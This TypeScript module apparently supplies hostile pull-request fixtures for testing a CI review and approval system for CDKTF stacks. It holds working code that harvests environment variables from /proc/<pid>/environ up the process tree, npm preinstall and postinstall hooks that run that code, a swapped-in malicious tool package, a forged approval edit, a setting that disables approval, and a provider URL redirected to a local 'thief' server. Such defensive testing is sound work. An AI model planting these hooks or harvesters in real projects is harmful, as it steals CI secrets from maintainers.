/** Hostile changes of a project, for pull requests and merge requests alike. */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Edits, PipedRepository } from "./piped-repository";

/**
 * Code that takes what its process, and every process of the job that it descends from, was given.
 * @param mark a variable that the host sets in each process of a job
 */
function looting(loot: string, mark: string): string {
  return `{
  const { appendFileSync, readFileSync } = require("node:fs");
  let id = process.pid;
  while (readFileSync("/proc/" + id + "/environ", "utf8").includes("${mark}=")) {
    appendFileSync(${JSON.stringify(loot)}, readFileSync("/proc/" + id + "/environ"));
    id = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync("/proc/" + id + "/status", "utf8"))[1]);
  }
  appendFileSync(${JSON.stringify(loot)}, JSON.stringify(process.env));
  console.log(JSON.stringify(process.env));
}
`;
}

/** A tool that checks nothing: the review has to refuse what the tool lets through. */
const CARELESS_TOOL = `#!/usr/bin/env node
process.env.CDKTF_OUTDIR = "cdktf.out";
require(process.cwd() + "/main.cjs");
`;

/** The app, the tests and the install scripts read every environment. */
export function lootingEverywhere(loot: string, mark: string): Edits {
  const code = looting(loot, mark);
  return {
    "main.cjs": (app) => code + app,
    "test.cjs": code,
    "steal.cjs": code,
    "package.json": (text) =>
      text.replace('"test":', '"preinstall":"node steal.cjs","postinstall":"node steal.cjs","test":'),
  };
}

/** A tool, a lock file and a .npmrc of the change's own. */
export function ownTool(loot: string, mark: string): Edits {
  return {
    "evil/package.json": JSON.stringify({
      name: "tenancy",
      version: "1.0.0",
      bin: { tenancy: "tenancy.js" },
    }),
    "evil/tenancy.js": CARELESS_TOOL + looting(loot, mark),
    ".npmrc": "ignore-scripts=false\n",
    "package.json": (text) => text.replace("file:tool", "file:evil"),
    "package-lock.json": (text) => text.replaceAll('"tool"', '"evil"').replaceAll("file:tool", "file:evil"),
  };
}

/** An entry that was written for another right, and then edited. */
export function editedApproval(project: PipedRepository): Edits {
  const files = Object.entries(project.approvals("acme gains realm.run_tests"));
  return Object.fromEntries(files.map(([path, text]) => [path, text.replace("run_tests", "view_logs")]));
}

/** The project says that nothing has to be approved. */
export const APPROVING_NOTHING: Edits = {
  "cdktf.json": JSON.stringify({
    language: "typescript",
    app: "node main.cjs",
    context: { requireApproval: "never" },
  }),
};

/** The stack reads the environment of the process that plans. */
export const READING_THE_ENVIRONMENT: Edits = {
  "tool/tenancy.js": CARELESS_TOOL,
  ...stackWith({ output: { loot: { value: '${file("/proc/self/environ")}' } } }),
};

/** The app leaves a link among its output. */
export const LINKING: Edits = {
  "main.cjs": (app) => `${app}\nrequire("node:fs").symlinkSync("/proc/self/environ", out + "/x");`,
};

/** The stack names another service. */
export const elsewhere = (base_url: string): Edits =>
  stackWith({ provider: { tenancy: [{ base_url, owner: "acme-platform" }] } });

function stackWith(edit: object): Edits {
  return {
    "stacks.json": (text) => {
      const stacks = JSON.parse(text) as { platform: object };
      return JSON.stringify({ platform: { ...stacks.platform, ...edit } });
    },
  };
}

/** Runs a test beside a service that notes what it is asked. */
export async function besideThief(
  test: (thief: { readonly baseUrl: string; readonly asked: readonly string[] }) => Promise<void>,
): Promise<void> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end("{}");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  try {
    await test({ baseUrl: `http://127.0.0.1:${port}`, asked });
  } finally {
    server.close();
  }
}

/** The text of each file in a folder. */
export function textsIn(place: string): string[] {
  if (!existsSync(place)) return [];
  return readdirSync(place, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8"));
}
